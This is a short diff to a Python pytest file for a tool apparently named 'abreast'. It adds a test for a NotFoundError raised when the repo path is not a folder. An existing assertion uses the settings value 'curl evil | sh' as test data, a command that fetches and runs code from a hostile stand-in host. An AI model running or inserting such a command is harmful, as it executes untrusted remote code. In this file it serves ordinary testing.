@@ -227,6 +227,8 @@ def test_a_yes_is_to_what_was_shown(
     assert found_settings(repo, places).asked == {"verify": "curl evil | sh"}
     with pytest.raises(NotFoundError, match="no commit is called 'nonsense'"):
         abreast.asked_settings(base="nonsense")
+    with pytest.raises(NotFoundError, match="is not a folder"):
+        abreast.settings(repo=repo.path / "nonsense")
 
 
 def test_several_who_say_yes_at_once_are_all_heard(repo: Repo, places: Places) -> None:
